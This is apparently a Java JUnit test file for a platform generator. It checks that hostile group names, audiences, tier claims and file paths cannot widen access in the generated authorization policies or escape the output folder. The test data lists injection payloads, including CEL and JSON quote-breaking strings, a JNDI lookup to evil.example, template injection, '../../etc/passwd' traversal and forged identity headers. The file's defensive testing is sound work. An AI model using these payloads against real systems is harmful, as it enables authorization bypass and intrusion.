package dev.maas.tests.hostile;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.dataformat.yaml.YAMLFactory;
import dev.maas.cel.CelEngine;
import dev.maas.cel.CelFailure;
import dev.maas.cel.CelStrings;
import dev.maas.model.Model;
import dev.maas.model.Platform;
import dev.maas.model.Tier;
import dev.maas.output.GeneratedTree;
import dev.maas.output.SafePaths;
import dev.maas.output.TreeWriter;
import dev.maas.render.PlatformRenderer;
import dev.maas.render.RenderOptions;
import dev.maas.validate.SpecValidator;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Names and groups from a spec reach CEL predicates, URLs, labels, JSON config and file names.
 * These tests render a spec full of hostile (but schema-valid) groups and audiences and EVALUATE
 * every generated CEL predicate: no group or name widens access, every predicate still compiles,
 * and nothing leaves the output folder. Which tier a user gets is decided by the token service from
 * the exact group strings (proved by running it in {@link HostileGroupsTokenServiceTest}); the
 * gateway trusts only the signed tier claim.
 */
class InjectionTest {

  /**
   * Groups the schema allows (any non-space printable text) that look like code in some language.
   */
  static final List<String> HOSTILE_GROUPS =
      List.of(
          "x\"||true||\"",
          "x')||('1'=='1",
          "\\",
          "\"",
          "a\\\"b",
          "*",
          ".*",
          "${jndi:ldap://evil.example/x}",
          "{{.Values.admin}}",
          "system:authenticated\"]",
          "\"},{\"name\":\"admin\",\"groups\":[\"*\"]}",
          "../../etc/passwd",
          "grüppe-ünïcödé",
          "]",
          "auth.identity.tier",
          "@tostr",
          "premium-users\",\"acme:ml-admins");

  /** Audiences have no pattern at all: spaces, quotes, backslashes and line breaks. */
  static final List<String> HOSTILE_AUDIENCES = List.of("x\" || true || \"", "a\nb", "\\", "maas");

  private static final CelEngine CEL = CelEngine.withVariables("request", "auth");
  private static final ObjectMapper YAML = new ObjectMapper(new YAMLFactory());

  static Platform platform;
  static GeneratedTree tree;
  static Map<String, JsonNode> objects = new TreeMap<>();

  @TempDir static Path dir;

  static String hostileSpec() throws IOException {
    String reference =
        Files.readString(
            Path.of(System.getProperty("maas.repoRoot", "..")).resolve("platform-specs/acme.yaml"));
    String groups =
        HOSTILE_GROUPS.stream().map(InjectionTest::yamlQuote).collect(Collectors.joining(", "));
    String audiences =
        HOSTILE_AUDIENCES.stream().map(InjectionTest::yamlQuote).collect(Collectors.joining(", "));
    return reference
        .replace("groups: [\"system:authenticated\"]", "groups: [" + groups + "]")
        .replace(
            "        audiences: [\"https://kubernetes.default.svc\"]\n",
            "        audiences: [\"https://kubernetes.default.svc\"]\n      oidc:\n        issuerUrl: https://sso.example.com/realms/acme\n"
                + "        audiences: ["
                + audiences
                + "]\n");
  }

  /** A YAML double-quoted scalar holding exactly {@code s}. */
  static String yamlQuote(String s) {
    return "\"" + s.replace("\\", "\\\\").replace("\"", "\\\"").replace("\n", "\\n") + "\"";
  }

  @BeforeAll
  static void render() throws IOException {
    Path spec = dir.resolve("hostile-groups.yaml");
    Files.writeString(spec, hostileSpec());
    SpecValidator.Outcome outcome = new SpecValidator().validate(spec, "hostile-groups.yaml");
    assertNotNull(
        outcome.platform(), () -> "hostile groups are legal groups: " + outcome.diagnostics());
    platform = outcome.platform();
    assertEquals(HOSTILE_GROUPS, platform.tier("free").orElseThrow().groups());
    tree = new PlatformRenderer(new RenderOptions(null, "test")).render(platform);
    for (Map.Entry<String, byte[]> file : tree.files().entrySet()) {
      if (file.getKey().startsWith("base/")
          && file.getKey().endsWith(".yaml")
          && !file.getKey().endsWith("kustomization.yaml")) {
        objects.put(file.getKey().substring("base/".length()), YAML.readTree(file.getValue()));
      }
    }
  }

  private static JsonNode object(String file) {
    JsonNode o = objects.get(file);
    assertNotNull(o, () -> file + " not in " + objects.keySet());
    return o;
  }

  /**
   * Every CEL text in the output: predicates, expressions, and the TelemetryPolicy's label
   * expressions.
   */
  static Map<String, String> celExpressions() {
    Map<String, String> out = new TreeMap<>();
    objects.forEach(
        (file, o) -> collect(file, "", o, out, o.path("kind").asText().equals("TelemetryPolicy")));
    return out;
  }

  private static void collect(
      String file, String at, JsonNode node, Map<String, String> out, boolean telemetry) {
    if (node.isObject()) {
      node.fields()
          .forEachRemaining(
              e -> {
                String here = at + "/" + e.getKey();
                boolean cel =
                    e.getValue().isTextual()
                        && (e.getKey().equals("predicate")
                            || e.getKey().equals("expression")
                            || (telemetry
                                && here.startsWith("/spec/metrics/")
                                && here.contains("/labels/")));
                if (cel) {
                  out.put(file + "#" + here, e.getValue().asText());
                } else {
                  collect(file, here, e.getValue(), out, telemetry);
                }
              });
    } else if (node.isArray()) {
      for (int i = 0; i < node.size(); i++) {
        collect(file, at + "/" + i, node.get(i), out, telemetry);
      }
    }
  }

  @Test
  void everyGeneratedCelExpressionCompilesAndNoGroupIsInAny() throws CelFailure {
    Map<String, String> cel = celExpressions();
    assertTrue(cel.size() >= 20, "too few CEL expressions found: " + cel.keySet());
    for (Map.Entry<String, String> e : cel.entrySet()) {
      if (e.getValue().contains("responseBodyJSON(")) {
        continue; // a Kuadrant telemetry function outside standard CEL; it takes no spec text
      }
      try {
        CEL.compile(e.getValue());
      } catch (CelFailure failure) {
        throw new AssertionError(e.getKey() + " does not compile: " + e.getValue(), failure);
      }
      for (String group : HOSTILE_GROUPS) {
        if (group.length() >= 4 && !group.equals("auth.identity.tier")) {
          assertFalse(
              e.getValue().contains(group) || e.getValue().contains(CelStrings.quote(group)),
              e.getKey() + " holds group " + group + ": " + e.getValue());
        }
      }
    }
    // The policies that choose and limit do it on the signed tier claim, never on groups.
    assertTrue(
        cel.values().stream().noneMatch(c -> c.contains("groups") && !c.contains("x-maas-groups")),
        cel.toString());
  }

  @Test
  void theTokenServiceConfigHoldsEachGroupExactly() throws IOException {
    JsonNode config =
        new ObjectMapper()
            .readTree(
                object("configmap-acme-token-service-config.yaml")
                    .path("data")
                    .path("config.json")
                    .asText());
    List<String> groups = new ArrayList<>();
    for (JsonNode tier : config.path("tiers")) {
      if (tier.path("name").asText().equals("free")) {
        tier.path("groups").forEach(g -> groups.add(g.asText()));
      }
    }
    assertEquals(HOSTILE_GROUPS, groups, "every group survives JSON quoting byte for byte");
    assertEquals(3, config.path("tiers").size(), "no group added a tier");
  }

  // ---- gateway AuthPolicy: the tier claim decides, and only exactly

  private static Map<String, Object> request(Object tier, String method, String path, Object aud) {
    Map<String, Object> identity = new HashMap<>();
    identity.put("sub", "mallory");
    identity.put("userid", "mallory");
    identity.put("tier", tier);
    identity.put("aud", aud);
    identity.put("jti", "j-1");
    identity.put("iat", 1_700_000_000L);
    Map<String, Object> vars = new HashMap<>();
    int query = path.indexOf('?');
    vars.put(
        "request",
        Map.of(
            "method",
            method,
            "path",
            path,
            "url_path",
            query < 0 ? path : path.substring(0, query)));
    vars.put(
        "auth",
        Map.of("identity", identity, "metadata", Map.of("revocation", Map.of("revoked", false))));
    return vars;
  }

  /** Authorino's verdict: every authorization rule must pass; a predicate that errs denies. */
  static boolean authorized(JsonNode policy, Map<String, Object> vars) {
    for (JsonNode rule : policy.path("spec").path("rules").path("authorization")) {
      if (!rule.path("when").isMissingNode() && !allPass(rule.path("when"), vars)) {
        continue; // a rule whose conditions do not hold does not apply
      }
      for (JsonNode pattern : rule.path("patternMatching").path("patterns")) {
        if (!eval(pattern.path("predicate").asText(), vars)) {
          return false;
        }
      }
    }
    return true;
  }

  static boolean allPass(JsonNode when, Map<String, Object> vars) {
    for (JsonNode condition : when) {
      if (!eval(condition.path("predicate").asText(), vars)) {
        return false;
      }
    }
    return true;
  }

  static boolean eval(String predicate, Map<String, Object> vars) {
    try {
      return CEL.compile(predicate).test(vars);
    } catch (CelFailure e) {
      return false;
    }
  }

  @Test
  void noTierClaimOtherThanAnAllowedTierReachesAModel() {
    JsonNode auth = object("authpolicy-acme-gateway-auth.yaml");
    List<Object> claims = new ArrayList<>(HOSTILE_GROUPS);
    claims.addAll(
        List.of(
            "",
            "FREE",
            "free ",
            " free",
            "free\u0000",
            "fr\u0435e",
            "premium\"||true||\"",
            "true",
            "enterprise-users",
            List.of("free"),
            List.of("enterprise"),
            Map.of("tier", "enterprise"),
            1L,
            true));
    int checked = 0;
    for (Model model : platform.models()) {
      String path = dev.maas.model.MeteredEndpoints.primaryPath(model);
      for (Tier tier : platform.tiers()) {
        assertEquals(
            tier.allows(model.name()),
            authorized(auth, request(tier.name(), "POST", path, "maas:acme")),
            tier.name() + " × " + model.name());
        checked++;
      }
      for (Object claim : claims) {
        assertFalse(
            authorized(auth, request(claim, "POST", path, "maas:acme")),
            claim + " reached " + model.name());
        // Path tricks: another model's prefix, encoded or doubled slashes, do not reach a model the
        // tier may not call.
        checked++;
      }
      Tier free = platform.tier("free").orElseThrow();
      if (!free.allows(model.name())) {
        for (String trick :
            List.of(
                "/llm/granite-8b/../" + model.name() + "/v1/x",
                "/llm/granite-8b/v1/../../../"
                    + model.namespace()
                    + "/"
                    + model.name()
                    + "/v1/x")) {
          // The gateway normalises paths before policies see them; an unnormalised path is no
          // metered endpoint at all.
          assertFalse(authorized(auth, request("free", "POST", trick, "maas:acme")), trick);
          checked++;
        }
      }
    }
    // A token for another platform or audience is refused whatever its tier.
    for (Object aud : List.of("maas:other", List.of("maas:other"), "maas:acme\"||true||\"", "")) {
      assertFalse(
          authorized(auth, request("enterprise", "POST", "/llm/granite-8b/v1/x", aud)),
          aud.toString());
      checked++;
    }
    assertTrue(checked > 50, "checked " + checked);
  }

  @Test
  void rateLimitsKeyOnTheTierClaimExactly() {
    for (String file :
        List.of(
            "ratelimitpolicy-acme-request-limits.yaml",
            "tokenratelimitpolicy-acme-token-limits.yaml")) {
      JsonNode policy = object(file);
      for (Object claim : List.of("free\"||true||\"", "FREE", "free ", "x\"||true||\"")) {
        Map<String, Object> vars =
            request(claim, "POST", "/llm/granite-8b/v1/chat/completions", "maas:acme");
        policy
            .path("spec")
            .path("limits")
            .fields()
            .forEachRemaining(
                limit ->
                    assertFalse(
                        allPass(limit.getValue().path("when"), vars),
                        file + " " + limit.getKey() + " matched " + claim));
      }
      Map<String, Object> free =
          request("free", "POST", "/llm/granite-8b/v1/chat/completions", "maas:acme");
      List<String> matched = new ArrayList<>();
      policy
          .path("spec")
          .path("limits")
          .fields()
          .forEachRemaining(
              limit -> {
                if (allPass(limit.getValue().path("when"), free)) {
                  matched.add(limit.getKey());
                }
              });
      assertEquals(1, matched.size(), file + ": " + matched);
    }
  }

  // ---- the token service's route AuthPolicy

  private static Map<String, Object> routeRequest(
      String path, Map<String, String> headers, Object aud, String iss) {
    Map<String, Object> identity = new HashMap<>();
    identity.put("aud", aud);
    identity.put("iss", iss);
    Map<String, Object> vars = new HashMap<>();
    vars.put(
        "request", Map.of("url_path", path, "path", path, "method", "POST", "headers", headers));
    vars.put("auth", Map.of("identity", identity));
    return vars;
  }

  @Test
  void clientSuppliedIdentityHeadersAndInternalPathsAreRefused() {
    JsonNode route = object("authpolicy-acme-token-service-auth.yaml");
    String issuer = "https://sso.example.com/realms/acme";
    // Envoy hands header names to policies in lower case, however the client wrote them.
    for (Map<String, String> forged :
        List.of(
            Map.of("x-maas-username", "admin"),
            Map.of("x-maas-groups", "[\"acme:ml-admins\"]"),
            Map.of("x-maas-username", "", "x-maas-groups", "[]"),
            Map.of("x-maas-groups", ""))) {
      assertFalse(
          authorized(route, routeRequest("/maas-api/v1/tokens", forged, "maas", issuer)),
          forged.toString());
    }
    assertTrue(
        authorized(
            route,
            routeRequest(
                "/maas-api/v1/tokens", Map.of("authorization", "Bearer x"), "maas", issuer)));
    for (String internal :
        List.of(
            "/maas-api/internal/v1/tokens/status", "/maas-api/internal/", "/maas-api/metrics")) {
      assertFalse(authorized(route, routeRequest(internal, Map.of(), "maas", issuer)), internal);
    }
    // Hostile audiences are compared as exact strings: none of them opens the door to another
    // audience.
    for (Object aud :
        List.of(
            "other",
            "x",
            "true",
            List.of("other"),
            "a",
            "b",
            "a\\nb",
            "\\\\",
            "x\" || true || \"x")) {
      assertFalse(
          authorized(route, routeRequest("/maas-api/v1/tokens", Map.of(), aud, issuer)),
          aud.toString());
    }
    for (String aud : HOSTILE_AUDIENCES) {
      assertTrue(
          authorized(route, routeRequest("/maas-api/v1/tokens", Map.of(), aud, issuer)), aud);
      assertTrue(
          authorized(
              route, routeRequest("/maas-api/v1/tokens", Map.of(), List.of("other", aud), issuer)),
          aud);
    }
  }

  @Test
  void namesThatLookLikeNumbersOrBooleansStayText() throws IOException {
    String reference =
        Files.readString(
            Path.of(System.getProperty("maas.repoRoot", "..")).resolve("platform-specs/acme.yaml"));
    // Each is a DNS label; YAML readers (kubectl, Argo CD) would read them unquoted as 16, 7000,
    // false, ...
    // (Model names start with a letter: they begin Service names.)
    String spec =
        reference
            .replace("name: free", "name: \"0x10\"")
            .replace("granite-8b", "\"off\"")
            .replace("name: premium", "name: \"no\"")
            .replace("- name: prod", "- name: \"on\"")
            .replace("name: enterprise", "name: \"7e3\"")
            .replace("mnist-classifier", "\"y\"");
    Path file = dir.resolve("numeric-names.yaml");
    Files.writeString(file, spec);
    Path crds = Path.of(System.getProperty("maas.crds", "../../shared/crds"));
    dev.maas.api.GenerateResult result =
        new dev.maas.api.MaasCompiler()
            .generate(
                new dev.maas.api.GenerateRequest(
                    dir, file, dir.resolve("numeric-out"), crds, null, "test", true));
    assertEquals(
        List.of(),
        result.validation().diagnostics().stream()
            .filter(dev.maas.diag.Diagnostic::isError)
            .toList());
    assertEquals(List.of(), result.checks(), "the output passes its CRD checks");
    org.yaml.snakeyaml.Yaml yaml11 = new org.yaml.snakeyaml.Yaml();
    int scalars = 0;
    try (Stream<Path> files = Files.walk(dir.resolve("numeric-out"))) {
      for (Path f : files.filter(p -> p.toString().endsWith(".yaml")).toList()) {
        for (Object doc : yaml11.loadAll(Files.readString(f))) {
          scalars += assertNamesAreText(doc, f.toString());
        }
      }
    }
    assertTrue(scalars > 10, "checked " + scalars);
  }

  /**
   * Every value that is one of the names is still a string when read by YAML 1.1 rules; returns how
   * many.
   */
  private static int assertNamesAreText(Object node, String where) {
    int n = 0;
    if (node instanceof Map<?, ?> map) {
      for (Map.Entry<?, ?> e : map.entrySet()) {
        assertFalse(
            e.getKey() instanceof Number || e.getKey() instanceof Boolean,
            where + ": key " + e.getKey());
        n += assertNamesAreText(e.getValue(), where);
      }
    } else if (node instanceof List<?> list) {
      for (Object item : list) {
        n += assertNamesAreText(item, where);
      }
    } else if (node instanceof String s
        && List.of("0x10", "off", "no", "on", "7e3", "y").contains(s)) {
      n++;
    } else if (node instanceof Number) {
      assertFalse(
          List.of("16", "15", "7000.0", "7000").contains(String.valueOf(node)),
          where + ": a name became " + node);
    }
    return n;
  }

  // ---- file names

  @Test
  void everyOutputPathStaysInsideTheOutputFolder() throws IOException {
    for (String path : tree.files().keySet()) {
      assertEquals(path, SafePaths.requireRelative(path));
      Path out = dir.resolve("out").resolve(path).normalize();
      assertTrue(out.startsWith(dir.resolve("out")), path);
    }
    for (String bad :
        List.of(
            "../x",
            "a/../../x",
            "/etc/passwd",
            "a\\..\\x",
            ".",
            "..",
            "a//b",
            "a/",
            ".hidden",
            "a/./b",
            "C:/x",
            "a\u0000b",
            "",
            "a/b/../../..",
            "~/x",
            "-rf",
            "\u2024\u2024/x")) {
      assertThrows(IllegalArgumentException.class, () -> SafePaths.requireRelative(bad), bad);
      assertThrows(
          IllegalArgumentException.class,
          () -> new GeneratedTree(new TreeMap<>(Map.of(bad, new byte[] {1}))),
          bad);
    }
    // Nothing the writer was handed lands outside the target, and nothing beside the target
    // changes.
    Path target = dir.resolve("writer").resolve("acme");
    Files.createDirectories(target.getParent());
    Files.writeString(target.getParent().resolve("neighbour.txt"), "keep");
    new TreeWriter().write(tree, target);
    try (Stream<Path> all = Files.walk(dir.resolve("writer"))) {
      List<String> outside =
          all.filter(Files::isRegularFile)
              .filter(p -> !p.startsWith(target))
              .map(p -> dir.resolve("writer").relativize(p).toString())
              .toList();
      assertEquals(List.of(".acme.lock", "neighbour.txt"), outside.stream().sorted().toList());
    }
    assertEquals(
        "keep",
        Files.readString(target.getParent().resolve("neighbour.txt"), StandardCharsets.UTF_8));
  }
}
